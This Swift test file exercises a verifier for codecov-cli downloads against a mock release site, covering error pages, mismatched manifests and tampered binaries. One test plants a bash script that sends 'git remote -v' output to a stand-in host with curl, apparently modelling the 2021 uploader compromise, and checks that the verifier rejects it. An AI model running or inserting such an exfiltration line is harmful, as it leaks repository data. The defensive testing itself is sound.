import Foundation
import PacketForge
import TestSupport
import Testing

/// A site with the layout of cli.codecov.io, and what users really got from there when things went wrong.
@Suite("Fetching codecov-cli", .enabled(if: RealData.isThere, "\(RealData.absence)"))
struct RealFetchTests {
    private let folder: ScratchFolder
    private let site: PublishedSite

    init() throws {
        (folder, site) = (try ScratchFolder(), try PublishedSite())
        let policy = URL(fileURLWithPath: "\(packageFolder)/keys/codecov-cli.trust.json")
        try folder.write("codecov-cli.trust.json", policy.bytes())
        try folder.write("codecov.asc", RealData.bytes("codecov/codecov.asc"))
        try folder.makeFolder("out")
        try folder.write("out/codecov", "old")
    }

    private func publish(_ data: String, at version: String, _ platform: String = "linux", _ content: String = "?")
        throws
    {
        let name = platform == "windows" ? "codecov.exe" : "codecov"
        let path = "/\(version)/\(platform)/\(name)"
        site[path] = Array(content.utf8)
        for suffix in [".SHA256SUM", ".SHA256SUM.sig"] {
            site[path + suffix] = try RealData.bytes("codecov/\(data)/\(name)\(suffix)")
        }
    }

    /// Without names of this machine's servers, the key's address is not reached: that is only a warning.
    private func fetch(_ options: [String]) throws -> ProgramRun {
        try ProgramRun(
            verifyUploader,
            [
                "fetch", "codecov-cli", "--trust", "codecov-cli.trust.json", "--no-state", "--origin", site.origin,
                "--output", "out/codecov", "--format", "json",
            ] + options, in: folder.path,
            environment: [
                "PATH": "/usr/bin:/bin", "HOME": folder.path, "https_proxy": "http://127.0.0.1:1",
                "no_proxy": "127.0.0.1",
            ].merging(Sanitizer.environment) { $1 })
    }

    private func expectOld() throws {
        #expect(try folder.text("out/codecov") == "old")
        #expect(try FileManager.default.contentsOfDirectory(atPath: folder.path("out")) == ["codecov"])
    }

    /// The programs are not among the data, so what is signed is accepted, and what lies in their place is not.
    @Test(arguments: ["linux", "linux-arm64", "alpine", "alpine-arm64", "macos", "windows"])
    func realManifestsAreAcceptedOnEveryPlatformAndOtherBytesAreNot(_ platform: String) throws {
        let suffix = platform == "windows" ? "-windows" : "-unix"
        let release = try #require(RealData.names("codecov/releases").last { $0.hasSuffix(suffix) })
        try publish("releases/\(release)", at: "v11.2.3", platform)
        let run = try fetch(["--release-version", "v11.2.3", "--platform", platform])
        #expect(run.status == 1 && run.rules == ["digest-mismatch"], "\(run.messages)")
        #expect(Set(run.warnings) == ["unbound-release", "key-source-unusable"], "\(run.warnings)")
        #expect(run.signatures.allSatisfy { $0["counts"] as? Bool == true } && run.signatures.count == 1)
        try expectOld()
    }

    @Test func anErrorPageInThePlaceOfARelease2024() throws {
        try publish("known-bad/issue-1588-nosuchkey-0.7.4", at: "0.7.4")
        let run = try fetch(["--release-version", "0.7.4", "--platform", "linux"])
        #expect(run.status == 4 && run.rules == ["manifest-malformed"])
        #expect(run.messages.contains("is not a manifest: it is an XML error page (NoSuchKey)"), "\(run.messages)")
        #expect(run.messages.contains("The release '0.7.4' does not exist there") && run.messages.contains("'v0.7.4'"))
        try expectOld()
    }

    @Test(arguments: ["issue-720-918-stale-manifest-2023-02-17", "issue-704-mixed-2026-04-21"])
    func halvesThatDoNotBelongTogether2023And2026(_ data: String) throws {
        try publish("known-bad/\(data)", at: "latest")
        let run = try fetch(["--platform", "linux"])
        #expect(run.status == 1 && run.rules == ["signature-bad"] && run.notes == ["latest-moved"], "\(run.messages)")
        #expect(run.messages.contains("fetched twice") && run.messages.contains("--release-version"))
        try expectOld()
    }

    @Test func aKeyThatIsAnErrorPage2026() throws {
        try folder.write("codecov.asc", RealData.bytes("codecov/known-bad/issue-1955-keybase-404/pgp_keys.asc"))
        let run = try fetch(["--platform", "linux"])
        #expect(run.status == 78 && run.rules == ["key-file-missing"], "\(run.messages)")
        #expect(site.requests.isEmpty)
        try expectOld()
    }

    @Test func aChangedProgram2021() throws {
        let release = try #require(RealData.names("codecov/releases").last { $0.hasSuffix("-unix") })
        try publish(
            "releases/\(release)", at: "latest", "linux",
            "#!/bin/bash\ncurl -sm 0.5 -d \"$(git remote -v)\" https://x\n")
        let run = try fetch(["--platform", "linux"])
        #expect(run.status == 1 && run.rules == ["digest-mismatch"])
        try expectOld()
    }
}
